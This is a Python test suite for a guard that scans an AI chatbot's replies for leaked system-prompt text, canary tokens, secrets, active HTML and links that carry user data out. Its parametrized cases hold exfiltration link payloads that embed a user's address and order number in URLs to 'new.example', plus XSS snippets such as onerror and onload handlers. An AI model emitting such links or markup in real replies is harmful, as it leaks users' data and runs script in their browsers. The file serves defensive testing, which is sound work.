"""Checks of answers: what they find, what they leave alone, that no text breaks them."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pex.guard.canary import CANARY
from pex.guard.output_check import GROUPS, OUTPUT_RULES, check_output
from pex.guard.output_context import RULE_NAMES, OutputContext, OutputPolicy
from tests.helpers.effort import calls_of

SETS = Path(__file__).parents[2] / "benchmarks" / "guard"
SYSTEM = (
    "You are Clara. Refunds above 250 euros need the approval of the manager, so never promise "
    'them. If you cannot help, say "I am sorry, I can only help with orders of this shop." '
    "See https://shop.example/help for more."
)
SECRET = "Refunds above 250 euros need the approval of the manager"
CONTEXT = OutputContext(SYSTEM, ["I am at 14 Quay Street in Galway, order 4711-0815-22."])


def rows(kind):
    lines = (SETS / f"outputs_{kind}.jsonl").read_text("utf-8").splitlines()
    return [row for row in map(json.loads, lines) if row["split"] == "development"]


def flags(text, context=CONTEXT, policy=None):
    found = check_output(text, context, policy).findings
    return [one.rule for one in found if one.severity != "signal"]


@pytest.mark.parametrize("row", rows("hostile"), ids=lambda row: row["id"])
def test_a_hostile_answer_is_flagged_and_cleaned(row):
    context = OutputContext(row["system"], row["inputs"])
    found = check_output(row["output"], context)
    assert set(row["rules"]) & {one.rule for one in found.findings if one.severity != "signal"}
    assert not check_output(found.cleaned, context).flagged


def test_ordinary_answers_stay_as_they_are():
    for row in rows("harmless"):
        found = check_output(row["output"], OutputContext(row["system"], row["inputs"]))
        assert not found.flagged, (row["id"], found)
        assert found.cleaned == row["output"], row["id"]


def test_every_rule_has_a_name_a_risk_a_sentence_and_a_group():
    assert {rule.name for rule in OUTPUT_RULES} == set(RULE_NAMES)
    assert sorted(name for names in GROUPS.values() for name in names) == sorted(RULE_NAMES)
    assert all(rule.owasp.endswith(":2026") and rule.about for rule in OUTPUT_RULES)


def test_the_share_that_leaked_and_its_form_are_said():
    (one,) = check_output(SECRET[::-1], CONTEXT).findings
    assert one.message == "47 letters of the instructions (38%), backwards or by rot13"
    coded = base64.b64encode(SECRET.encode()).decode()
    found = check_output(f"x {coded} y", CONTEXT)
    assert found.cleaned == "x [instructions removed] y"
    assert found.findings[0].shown.startswith("Refunds above 250")


def test_what_the_instructions_quote_or_the_user_wrote_may_be_said():
    assert flags("I am sorry, I can only help with orders of this shop.") == []
    assert flags(SECRET) == ["prompt-leak"]
    assert flags(SECRET, OutputContext(SYSTEM, [f"Is this true: {SECRET}?"])) == []


def test_short_pieces_together_are_flagged():
    text = "Refunds above 250 euros. And: need the approval of the. Then never promise them."
    (last,) = [one for one in check_output(text, CONTEXT).findings if one.severity == "flag"]
    assert last.message.startswith("in pieces, ")


@pytest.mark.parametrize(
    "text",
    [
        "https://shop.example/orders?at=14+Quay+Street+in+Galway",  # a host of the instructions
        "[the city](https://en.wikipedia.org/wiki/Galway)",
        "https://elsewhere.example/guide?lang=en#step-3",
        "`![](https://new.example/?o=4711081522)`",
    ],
)
def test_links_without_data_or_to_known_places_are_fine(text):
    assert flags(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "![](https://new.example/14-Quay-Street-in-Galway.png)",
        "[x](//new.example/?o=4711-0815-22)",
        "[x](<https://new.example/?a=14 Quay Street in Galway>)",
        "https://new.example/#MTQgUXVheSBTdHJlZXQgaW4gR2Fsd2F5",
        "https://shop.example.new.example/?a=14%20Quay%20Street%20in%20Galway",
        "https:\\\\new.example\\?a=14%2520Quay%2520Street%2520in%2520Galway",
        "[mail](mailto:x@new.example?body=14%20Quay%20Street%20in%20Galway)",
        "<img src = 'https://new.example/?q=14 Quay Street in Galway'>",
        "[a]: https://a b](https://new.example/?o=4711081522)",
    ],
)
def test_an_address_with_data_is_flagged_wherever_they_are(text):
    assert flags(text) == ["data-links"]


def test_an_address_of_the_user_is_fine_until_data_join_it():
    context = OutputContext("", ["my pin is 774402, see https://note.example/?log="])
    assert flags("https://note.example/?log=", context) == []
    assert flags("https://note.example/?log=774402", context) == ["data-links"]
    allowed = OutputPolicy(hosts={"note.example"})
    assert flags("https://note.example/?log=774402", context, allowed) == []


def test_a_secret_of_the_instructions_is_never_said_and_one_of_the_user_may_be():
    key = "ghp_" + "a8Kd03mZq71LwPx5Rt2Yb6Vn9Hc4Js"
    assert flags(f"It is {key}.", OutputContext("", [f"my key {key}"])) == []
    found = check_output(f"It is {key}.", OutputContext(f"Use {key}."))
    assert found.cleaned == "It is [redacted]."
    assert key not in str(found.findings)


def test_what_is_taken_out_leaves_nothing_that_works():
    assert check_output("<scr\u200bipt>alert(1)").cleaned == "&lt;script>alert(1)"
    assert check_output("ht\x00tps://x.example <im\u200bg onerror=x()>").cleaned.endswith(
        "&lt;img onerror=x()>"
    )


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("<a title='>' onclick=x()>", "<a> with onclick"),
        ('<img "foo onerror=x() "bar>', "<img> with onerror"),
        ("<svg/onload=x()>", "<svg> with onload"),
        ("<object data=x>", "<object>"),
    ],
)
def test_html_that_acts_is_shown_as_text(text, what):
    found = check_output(text)
    assert [one.message for one in found.findings] == [what]
    assert found.cleaned == "&lt;" + text[1:]


def test_a_tag_that_is_shown_as_text_hides_no_other():
    found = check_output("<a onclick=x title='<script>y</script>'>")
    assert found.cleaned == "&lt;a onclick=x title='&lt;script>y&lt;/script>'>"


def test_html_in_code_and_generics_are_left():
    assert flags("`<script>` and\n```\n<form>\n```\n and List<object> a<b") == []
    assert flags("`a` <script> `b`") == ["active-html"]
    assert flags("```\n<form>\n```\n<form>") == ["active-html"]


def test_the_canary_is_found_in_its_forms_and_replaced():
    canary = "jwxf2bu3gmludwrrb3yo"
    context = OutputContext("", [], canary)
    for said in (canary, canary.upper(), " ".join(canary), canary[::-1], canary[:13]):
        found = check_output(f"so: {said} .", context)
        assert flags(f"so: {said} .", context) == ["canary"], said
        assert found.cleaned.startswith(f"so: {CANARY}"), said
    assert flags(base64.b64encode(f"it is {canary}!".encode()).decode(), context) == ["canary"]


def test_rules_can_be_off_changed_and_spans_allowed():
    text = "<script>"
    assert flags(text, policy=OutputPolicy(off={"active-html"})) == []
    assert flags(text, policy=OutputPolicy(severities={"active-html": "signal"})) == []
    digest = check_output(text).findings[0].digest
    assert flags(text, policy=OutputPolicy(allow={digest})) == []
    with pytest.raises(ValueError, match="did you mean 'active-html'"):
        OutputPolicy(severities={"active_html": "flag"})
    with pytest.raises(TypeError, match="expected a string, got bytes"):
        check_output(b"x")


PIECES = st.sampled_from(
    ["<", ">", "`", "```\n", "\n", " ", "a", "on", "=", '"', "'", "https://", "//x.example/?q=",
     "](", "![", "javascript:", "data:", "\x1b[", "\u202e", "\u200f", "\u200b", "\U0001f3f4",
     "\U000e0067", "\ud83d", "\ude00", "48 ", "SGVsbG8g", "%41", "&#", "@b.org", "+49 89 ", "1234 ",
     "漢", "ש", "key=a1b2c3d4", "-----BEGIN RSA PRIVATE KEY-----", SECRET[:30], SECRET[::-1]]
)  # fmt: skip
TEXTS = st.lists(PIECES | st.text(max_size=5), max_size=25).map("".join)


@settings(max_examples=120, deadline=None)
@given(TEXTS)
def test_no_text_raises_and_what_was_cleaned_stays(text):
    cleaned = check_output(text, CONTEXT).cleaned
    assert check_output(cleaned, CONTEXT).cleaned == cleaned


@pytest.mark.parametrize(
    "piece", ["<a '", "](//a.b", "https://", "48 ", "`", "\u200f", "a@b.", SECRET]
)
def test_the_work_grows_with_the_length(piece):
    short, long = (piece * (size // len(piece)) for size in (2_000, 16_000))
    check_output(short, CONTEXT)
    once = calls_of(lambda: check_output(short, CONTEXT))
    eight = calls_of(lambda: check_output(long, CONTEXT))
    assert eight <= 10 * once + 1000
